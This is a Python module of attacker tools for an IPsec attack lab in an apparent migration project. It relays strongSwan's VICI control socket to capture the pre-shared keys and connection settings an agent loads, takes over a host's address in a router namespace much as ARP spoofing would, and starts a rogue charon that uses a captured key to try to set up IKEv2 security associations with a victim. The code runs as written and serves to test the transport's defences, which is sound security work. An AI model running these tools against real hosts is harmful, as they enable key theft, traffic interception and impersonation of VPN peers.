"""An attacker's tools against the IPsec transport, for the attack lab (never used by an agent).

- `ViciTap` stands between an agent and its charon on the VICI control
  socket and records what passes: the PSKs (load-shared) and connections
  (load-conn) the agent loads. It models an attacker who has root on a host
  while a migration runs and so learns that migration's PSK; the lab uses it
  to obtain a real, used PSK without any hook in the agent.
- `ClaimedAddress` makes an on-path router (the lab's attacker namespace)
  take a host's address for itself, as ARP spoofing would: it can send from
  it, and packets to it stop there (all of them, or only those to the
  attacker's own UDP ports, so that the real host's traffic still passes).
- `try_sa` runs a charon of the attacker's own (`RogueCharon`, on IKE ports
  of its choosing) with a chosen PSK and identities and tries to bring up an
  IKEv2 SA with a victim's charon.
"""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType

import vici
from vici.protocol import FiniteStream, Message, Packet

from sealift.ipsec.charon import Charon, IpsecBackend, find_charon, render_strongswan_conf
from sealift.ipsec.tunnel import default_mode
from sealift.ipsec.vici_client import TunnelEnd, ViciClient, ViciError, connection_message
from sealift.lab.relay import shut_down

__all__ = [
    "AttemptResult",
    "ClaimedAddress",
    "LoadedConn",
    "LoadedPsk",
    "RogueCharon",
    "ViciTap",
    "try_sa",
    "vici_state",
]

_HEADER = struct.Struct("!I")


@dataclass(frozen=True)
class LoadedPsk:
    key_id: str
    psk: bytes
    owners: tuple[str, ...]  # the two IKE identities it is bound to (local first, as the agent loads it)


@dataclass(frozen=True)
class LoadedConn:
    name: str
    local_addrs: tuple[str, ...]
    remote_addrs: tuple[str, ...]
    local_id: str
    remote_id: str
    local_ts: tuple[str, ...]
    remote_ts: tuple[str, ...]


@dataclass
class ViciTap:
    """A relay on charon's VICI socket path that records load-shared and load-conn requests.

    start(): charon's socket is moved aside and the tap listens in its place
    (so only clients that connect afterwards pass through it: start it while
    no migration runs); stop(): the socket is put back. Use it as a context manager.
    """

    socket_path: Path
    psks: list[LoadedPsk] = field(default_factory=list)
    conns: list[LoadedConn] = field(default_factory=list)
    _listener: socket.socket | None = None
    _lock: threading.Lock = field(default_factory=threading.Lock)
    _open: list[socket.socket] = field(default_factory=list)

    @property
    def real_path(self) -> Path:
        return self.socket_path.with_name(self.socket_path.name + ".real")

    def start(self) -> ViciTap:
        if not self.socket_path.exists():
            raise FileNotFoundError(f"no VICI socket at {self.socket_path}: is that charon running?")
        os.rename(self.socket_path, self.real_path)
        try:
            listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            listener.bind(str(self.socket_path))
            listener.listen(8)
        except BaseException:
            os.rename(self.real_path, self.socket_path)
            raise
        self._listener = listener
        threading.Thread(target=self._serve, name="vici-tap", daemon=True).start()
        return self

    def stop(self) -> None:
        listener, self._listener = self._listener, None
        if listener is None:
            return
        listener.close()
        with self._lock:
            for sock in self._open:
                try:
                    sock.close()
                except OSError:
                    pass
            self._open.clear()
        self.socket_path.unlink(missing_ok=True)
        os.rename(self.real_path, self.socket_path)

    def __enter__(self) -> ViciTap:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def _serve(self) -> None:
        while True:
            listener = self._listener
            if listener is None:
                return
            try:
                client, _ = listener.accept()
            except OSError:
                return
            upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                upstream.connect(str(self.real_path))
            except OSError:
                client.close()
                upstream.close()
                continue
            with self._lock:
                self._open += [client, upstream]
            threading.Thread(target=self._pump, args=(client, upstream, True), daemon=True).start()
            threading.Thread(target=self._pump, args=(upstream, client, False), daemon=True).start()

    def _pump(self, source: socket.socket, sink: socket.socket, from_client: bool) -> None:
        try:
            while True:
                header = _recv_exactly(source, _HEADER.size)
                packet = _recv_exactly(source, _HEADER.unpack(header)[0])
                if from_client:
                    self._record(packet)
                sink.sendall(header + packet)
        except (OSError, ConnectionError):
            pass
        finally:
            shut_down(source, sink)

    def _record(self, packet: bytes) -> None:
        if not packet or packet[0] != Packet.CMD_REQUEST:
            return
        name_length = packet[1]
        command = packet[2 : 2 + name_length].decode("ascii", "replace")
        if command not in ("load-shared", "load-conn"):
            return
        message = Message.deserialize(FiniteStream(packet[2 + name_length :]))
        if command == "load-shared" and _text(message.get("type")) == "IKE":
            owners = tuple(_text(owner) for owner in message.get("owners", []))
            self.psks.append(LoadedPsk(_text(message.get("id")), bytes(message["data"]), owners))
        elif command == "load-conn":
            for name, conn in message.items():
                children = list((conn.get("children") or {}).values())
                child = children[0] if children else {}
                self.conns.append(
                    LoadedConn(
                        name=name,
                        local_addrs=tuple(_text(a) for a in conn.get("local_addrs", [])),
                        remote_addrs=tuple(_text(a) for a in conn.get("remote_addrs", [])),
                        local_id=_text((conn.get("local-psk") or {}).get("id")),
                        remote_id=_text((conn.get("remote-psk") or {}).get("id")),
                        local_ts=tuple(_text(t) for t in child.get("local_ts", [])),
                        remote_ts=tuple(_text(t) for t in child.get("remote_ts", [])),
                    )
                )


def _recv_exactly(sock: socket.socket, count: int) -> bytes:
    data = bytearray()
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return bytes(data)


def _text(value: object) -> str:
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else "" if value is None else str(value)


class ClaimedAddress:
    """The attacker's router namespace takes `address` (a host's) as its own, until closed.

    The attacker can then send from that address, and the packets routed to
    it through the attacker stop there instead of being forwarded: all of
    them (the real host is cut off meanwhile), or with `udp_ports` only UDP
    to those ports (the attacker's own IKE ports), so that the real host's
    traffic, a migration's IKE and ESP included, still passes untouched.
    """

    LOCAL_RULE_PRIORITY = 90  # where the local table's rule moves while the address is shared

    def __init__(self, netns: str, address: str, udp_ports: tuple[int, int] | None = None) -> None:
        self.netns, self.address, self.udp_ports = netns, address, udp_ports
        self._undo: list[list[str]] = []

    def __enter__(self) -> ClaimedAddress:
        try:
            # The rules first, the address last: with the address up before the rules, every packet to it
            # (a running migration's TCP included) would meet the attacker's stack and be reset meanwhile.
            if self.udp_ports is not None:
                # The local table (rule 0) would take every packet to the address: it moves behind two rules
                # that keep it for the attacker's UDP ports only and route the rest on to the real host.
                low, high = self.udp_ports
                to = ["to", f"{self.address}/32"]
                self._do(
                    [
                        "rule",
                        "add",
                        *to,
                        "ipproto",
                        "udp",
                        "dport",
                        f"{low}-{high}",
                        "lookup",
                        "local",
                        "priority",
                        "10",
                    ],
                    ["rule", "del", "priority", "10"],
                )
                self._do(["rule", "add", *to, "lookup", "main", "priority", "11"], ["rule", "del", "priority", "11"])
                self._do(
                    ["rule", "add", "lookup", "local", "priority", str(self.LOCAL_RULE_PRIORITY)],
                    ["rule", "del", "priority", str(self.LOCAL_RULE_PRIORITY)],
                )
                self._do(
                    ["rule", "del", "lookup", "local", "priority", "0"],
                    ["rule", "add", "lookup", "local", "priority", "0"],
                )
            self._do(
                ["addr", "add", f"{self.address}/32", "dev", "lo"], ["addr", "del", f"{self.address}/32", "dev", "lo"]
            )
        except BaseException:
            self.__exit__(None, None, None)
            raise
        return self

    def _do(self, args: list[str], undo: list[str]) -> None:
        _ip_in(self.netns, args)
        self._undo.append(undo)

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        while self._undo:
            _ip_in(self.netns, self._undo.pop(), check=False)


def _ip_in(netns: str, args: list[str], check: bool = True) -> None:
    done = subprocess.run(["ip", "netns", "exec", netns, "ip", *args], capture_output=True, text=True, timeout=10)
    if check and done.returncode != 0:
        raise RuntimeError(f"ip {' '.join(args)} in {netns}: {done.stderr.strip()}")


class RogueCharon(Charon):
    """The attacker's charon, on IKE ports of its choosing (to share a claimed address with the real host's).

    Charon.start renders strongswan.conf itself, with the standard ports; this
    one adds `port` and `port_nat_t` to that text and starts charon the same way.
    """

    def __init__(self, netns: str, backend: IpsecBackend, *, ike_port: int = 500, natt_port: int = 4500) -> None:
        super().__init__(netns, backend, subsystem_levels={"ike": 1, "cfg": 1})
        self.ike_port, self.natt_port = ike_port, natt_port

    def start(self) -> None:
        if (self.ike_port, self.natt_port) == (500, 4500):
            super().start()
            return
        self.run_dir.mkdir(mode=0o700, parents=True, exist_ok=True)
        private_run = self.run_dir / "run"
        private_run.mkdir(mode=0o700, exist_ok=True)
        conf = render_strongswan_conf(self.run_dir, self.backend, subsystem_levels={"ike": 1, "cfg": 1})
        ports = f"    port = {self.ike_port}\n    port_nat_t = {self.natt_port}\n"
        self.conf_file.write_text(conf.replace("charon {\n", "charon {\n" + ports, 1))
        self.vici_socket.unlink(missing_ok=True)
        env = {"PATH": os.environ.get("PATH", "/usr/sbin:/usr/bin:/sbin:/bin"), "STRONGSWAN_CONF": str(self.conf_file)}
        with open(self.run_dir / "charon.stderr", "wb") as stderr:
            self._process = subprocess.Popen(
                [
                    "ip",
                    "netns",
                    "exec",
                    self.netns or "",
                    "sh",
                    "-c",
                    'mount --bind "$1" /run && exec "$2"',
                    "sh",
                    str(private_run),
                    str(find_charon()),
                ],
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=stderr,
                stderr=stderr,
                start_new_session=True,
            )
        try:
            self._wait_for_vici()
        except BaseException:
            self.stop()
            raise


@dataclass(frozen=True)
class AttemptResult:
    """What the attacker's own charon got when it tried to bring up an SA."""

    established: bool
    error: str  # charon's reason when refused ("" if established)
    spis: tuple[str, str] | None  # the child SA's (in, out) SPIs on the attacker's side, when it came up
    log: str  # the attacker charon's log of the attempt


def try_sa(
    netns: str,
    backend: IpsecBackend,
    *,
    name: str,
    local_address: str,
    remote_address: str,
    local_id: str,
    remote_id: str,
    port: int,
    psk: bytes,
    ike_port: int = 500,
    natt_port: int = 4500,
    timeout_s: float = 8.0,
    on_up: Callable[[], None] | None = None,
) -> AttemptResult:
    """Start a charon in `netns`, load a connection and `psk`, initiate to `remote_address`'s port 500.

    The charon is always stopped afterwards (it sends a DELETE for an SA
    that came up). on_up: run while the SA is up (e.g. to look at the
    victim's charon). The attacker's charon sends no data: no routes, no filters.
    """
    end = TunnelEnd(name, "initiator", local_address, remote_address, local_id, remote_id, port, default_mode(backend))
    conn = connection_message(end)
    conn[name]["local_port"] = str(ike_port)  # the victim listens on 500 as always
    charon = RogueCharon(netns, backend, ike_port=ike_port, natt_port=natt_port)
    charon.start()
    try:
        with ViciClient(str(charon.vici_socket)) as client:
            _load_conn(charon, conn)
            client.load_shared(f"{name}-psk", psk, [local_id, remote_id])
            error, spis = "", None
            try:
                client.initiate(name, timeout_ms=int(timeout_s * 1000))
                for ike in client.list_sas(name):
                    for child in ike.children:
                        if child.state == "INSTALLED":
                            spis = (child.spi_in, child.spi_out)
                if spis is None:
                    error = "initiate returned, but no child SA is installed"
                elif on_up is not None:
                    on_up()
            except ViciError as exc:
                error = str(exc)
        return AttemptResult(spis is not None, error, spis, charon.log_text())
    finally:
        charon.stop()


def _load_conn(charon: Charon, message: dict) -> None:
    """load-conn with a message of our own (ViciClient.load_conn renders the standard one)."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(10)
    try:
        sock.connect(str(charon.vici_socket))
        vici.Session(sock).load_conn(message)
    finally:
        sock.close()


def vici_state(socket_path: Path) -> dict[str, list[str]]:
    """What a charon holds: its IKE SAs (name: state), loaded connections and PSK ids (no secret)."""
    with ViciClient(str(socket_path)) as vici:
        return {
            "sas": [f"{ike.name}: {ike.state} {ike.remote_host}" for ike in vici.list_sas()],
            "conns": vici.conn_names(),
            "shared": vici.shared_key_ids(),
        }
